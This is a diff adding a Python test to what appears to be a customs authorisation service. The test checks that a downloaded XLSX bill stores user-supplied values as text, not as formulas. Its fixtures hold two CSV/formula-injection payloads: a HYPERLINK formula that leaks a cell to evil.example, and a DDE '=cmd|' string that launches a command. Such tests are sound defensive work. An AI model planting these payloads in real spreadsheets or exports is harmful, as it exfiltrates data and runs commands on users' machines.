@@ -533,6 +533,27 @@ def test_the_bill_of_discharge_downloads_as_xlsx(served: Served) -> None:
     assert bill.json()["authorisation"] == REFERENCE and bill.json()["placements"]
 
 
+def test_the_downloaded_bill_holds_a_declarants_formula_as_text(served: Served) -> None:
+    lot = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    entry = {**placement_json("API-IM-FORMULA", lot), "site": "=cmd|' /C calc'!A0"}
+    assert served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"]).status_code == 200
+    session = served.ctx.store.create_session(dev_account("holder").address, 600)
+    period = "from=2019-08-01&to=2019-12-31"  # the placement's period for discharge ends 30 Sep 2019
+
+    def downloaded() -> Any:
+        answer = served.get(
+            f"/authorisations/{REFERENCE}/bill.xlsx?{period}", cookies={"pa_session": session}
+        )
+        assert answer.status_code == 200
+        workbook = openpyxl.load_workbook(BytesIO(answer.content))
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        return cells if any(cell.value == lot for cell in cells) else None
+
+    cells = _wait(downloaded, 10)
+    assert cells, "the placement is not in the bill"
+    assert [cell.value for cell in cells if cell.data_type == "f"] == []
+
+
 def test_each_new_alert_is_posted_once_to_the_webhooks_that_want_it(served: Served) -> None:
     receiver = served.receiver
     alerts = served.get("/api/v1/alerts", served.tokens["customs"]).json()["alerts"]
